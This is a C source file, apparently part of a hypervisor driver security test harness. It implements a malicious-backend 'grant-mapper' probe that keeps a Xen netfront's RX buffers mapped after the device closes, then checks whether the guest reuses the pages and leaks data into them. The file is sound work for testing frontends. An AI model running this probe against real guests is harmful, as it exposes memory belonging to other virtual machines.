/* SPDX-License-Identifier: MIT */
/*
 * The grant-mapper role (MSA02): umx maps what a target grants it and lies
 * about unmapping. Against a netfront: map every posted RX buffer
 * writable, fill it with GM_PATTERN, close the device (the frontend ends
 * access to every buffer: that must fail, they are mapped) and keep the
 * pages mapped for a window. A target that ignored the failure frees the
 * pages and reuses them: what it puts there shows through our mapping.
 * A correct one keeps them aside until we let go: they keep the pattern.
 */
#include <errno.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"
#include "grant_mapper.h"
#include "umx/grant.h"
#include "vif.h"

#define GM_PAGES 64u

static void fill(uint8_t *pg)
{
	size_t n = sizeof(GM_PATTERN) - 1;
	for (size_t i = 0; i < UMX_PAGE_SIZE; i++)
		pg[i] = (uint8_t)GM_PATTERN[i % n];
}

/* Offset of the first byte that is not the pattern, or -1. */
static long changed(const uint8_t *pg)
{
	size_t n = sizeof(GM_PATTERN) - 1;
	for (size_t i = 0; i < UMX_PAGE_SIZE; i++)
		if (pg[i] != (uint8_t)GM_PATTERN[i % n])
			return (long)i;
	return -1;
}

static void fire(const struct attack_session *s, struct vif *v, const struct attack_def *a,
                 struct attack_result *r)
{
	umx_plat_mapped *m[GM_PAGES];
	uint8_t *pg[GM_PAGES];
	uint32_t gref[GM_PAGES];
	unsigned n = 0;
	long w = (long)s->timeout_ms / 5 < 2000 ? 2000 : (long)s->timeout_ms / 5;

	(void)a;
	vif_poll(v);
	for (uint32_t i = v->h.rxp; i != v->rx_seen && n < GM_PAGES; i++) {
		struct netif_rx_request q = nh_rx_req(&v->h, i);
		if (!(pg[n] = nh_map_one(&v->h, q.gref, false, &m[n])))
			continue;
		gref[n] = q.gref;
		fill(pg[n++]);
	}
	if (!n) {
		r->v = ATTACK_INCONCLUSIVE;
		attack_evidence(r, "no RX buffer could be mapped");
		return;
	}
	/* The lie: the device closes, our mappings stay. */
	vif_close(v);
	r->v = ATTACK_REJECTED;
	attack_evidence(r, "%u pages kept mapped %ld ms after the close: none reused", n, w);
	for (long end = attack_now_ms() + w; attack_now_ms() < end && r->v != ATTACK_VULNERABLE;) {
		for (unsigned k = 0; k < n; k++) {
			long off = changed(pg[k]);
			if (off < 0)
				continue;
			char seen[33];
			size_t len =
			        UMX_PAGE_SIZE - (size_t)off < 32 ? UMX_PAGE_SIZE - (size_t)off : 32;
			memcpy(seen, pg[k] + off, len);
			seen[len] = 0;
			r->v = ATTACK_VULNERABLE;
			attack_evidence(
			        r,
			        "page of grant %u reused while mapped: at offset %ld it now "
			        "holds '%s'",
			        gref[k], off, seen);
			break;
		}
		usleep(20000);
	}
	for (unsigned k = 0; k < n; k++)
		umx_plat_unmap(s->p, m[k]);
}

static int grant_mapper_run(const struct attack_session *s, const struct attack_def *const *as,
                            unsigned n, struct attack_result *out)
{
	return vif_role_run(s, as, n, out, fire);
}

const struct attack_role attack_role_grant_mapper = {
        .name = "grant-mapper",
        .target = "a netfront's granted buffers (MSA02)",
        .attach = vif_attach,
        .detach = vif_detach,
        .run = grant_mapper_run,
};
